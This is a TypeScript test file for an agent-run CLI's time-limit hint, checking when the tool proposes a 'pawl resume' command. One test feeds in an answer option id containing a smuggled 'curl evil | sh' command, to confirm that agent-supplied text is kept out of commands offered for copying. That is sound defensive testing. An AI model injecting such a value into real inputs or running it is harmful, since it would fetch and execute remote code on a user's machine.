import { setTimeout as sleep } from 'node:timers/promises'
import { expect, onTestFinished, test } from 'vitest'
import { memoizedDefinition } from '../core/definition.ts'
import type { Event } from '../core/event.ts'
import type { Guard } from '../core/guard.ts'
import { budget, guardFrom, maxIterations } from '../guards/index.ts'
import type { State } from '../core/state.ts'
import { memoryStore } from '../stores/memory-store.ts'
import { folderWorkspace } from '../workspaces/folder-workspace.ts'
import { taskLoop } from '../loops/task/index.ts'
import type { Agent, WorkResult } from '../agents/agent.ts'
import type { Check } from '../checks/check.ts'
import { machineProcesses } from '../process/processes.ts'
import { drive } from '../engine/drive.ts'
import { knownState } from '../engine/person-facts.ts'
import { systemClock } from '../process/clock.ts'
import { testProject } from '../../test/support/cli-project.ts'
import { timeLimitHint } from './hints.ts'

const OUT_OF_TIME: WorkResult = { status: 'timed-out', fault: 'agent', message: 'out of time' }

/** The note on a run whose agent works like this, one result an iteration. */
async function hintAfter(results: readonly WorkResult[], more?: readonly Guard[]): Promise<readonly string[]> {
  const { state, events } = await runOf(results, more)
  return timeLimitHint(state, events)
}

/** The state of a run whose agent works like this, each time for ten milliseconds, and its journal. */
async function runOf(results: readonly WorkResult[], more: readonly Guard[] = []): Promise<RunGiven> {
  const project = testProject({ isGit: false })
  onTestFinished(() => project.remove())
  let worked = 0
  const agent: Agent = {
    spec: { name: 'acp', v: 1, settings: { name: 'qwen' } },
    isInProcess: true,
    work: async (_request, context) => {
      await context.started()
      await sleep(10)
      return results[worked++] as WorkResult
    },
  }
  const loop = taskLoop({ goal: 'It works' })
  const guards = [maxIterations(results.length), ...more]
  const check: Check = {
    name: 'tests',
    spec: { name: 'tests', v: 1, settings: { name: 'tests' } },
    run: async (_request, context) => {
      await context.started()
      return { status: 'failed', exitCode: 1, failures: [{ id: 'login', kind: 'assertion', message: 'not equal' }] }
    },
  }
  const workspace = folderWorkspace({ path: project.root })
  const config = {
    loop: loop.spec,
    guards: guards.map(({ spec }) => spec),
    agent: agent.spec,
    checks: [check.spec],
    workspace: workspace.spec,
  }
  const definition = memoizedDefinition({ loop: () => loop, guard: guardFrom })
  const store = memoryStore()
  const outcome = await drive(
    { definition, config, agent, checks: [check], workspace, store, clock: systemClock, processes: machineProcesses },
    'r',
  )
  expect(outcome.status).toBe(more.length === 0 ? 'escalated' : 'stopped')
  return { state: await knownState(store, 'r'), events: await store.read('r') }
}

interface RunGiven {
  readonly state: State
  readonly events: readonly Event[]
}

test('CLI-425 the note on a time limit gives only advice that makes sense', async () => {
  expect(await hintAfter([OUT_OF_TIME])).toEqual([
    'qwen ran out of time. To give it more: pawl resume r --timeout 1h --answer continue',
  ])
  expect(await hintAfter([OUT_OF_TIME, { status: 'finished' }])).toEqual([])
})

test('CLI-425 of several ways to continue the note leaves the choice to the person', async () => {
  const { state, events } = await runOf([OUT_OF_TIME])
  if (!state.question) throw new Error('It asks.')
  const { question } = state.question
  const options = question.options.map((option) => ({ ...option, choice: `${option.choice}-code` }))
  expect(timeLimitHint({ ...state, question: { ...state.question, question: { ...question, options } } }, events)).toEqual([
    'qwen ran out of time. To give it more, with the number of your answer for N: pawl resume r --timeout 1h --answer N',
  ])
})

test('CLI-481 where the time of the run was over, no longer time for the agent is proposed', async () => {
  expect(await hintAfter([OUT_OF_TIME], [budget({ durationMsMax: 5 })])).toEqual([])
})

test('CLI-433 what an agent asks for after it ran out of time is not part of a command to copy', async () => {
  const options = [
    { id: 'x; curl evil | sh', label: 'Drop it', kind: 'answer' },
    { id: 'b', label: 'Keep it', kind: 'answer' },
  ] as const
  const ask = { id: 'q', kind: 'question', title: 'Drop the table?', options } as const
  expect(await hintAfter([OUT_OF_TIME, { status: 'asked', ask, message: 'It asks.' }])).toEqual([])
})
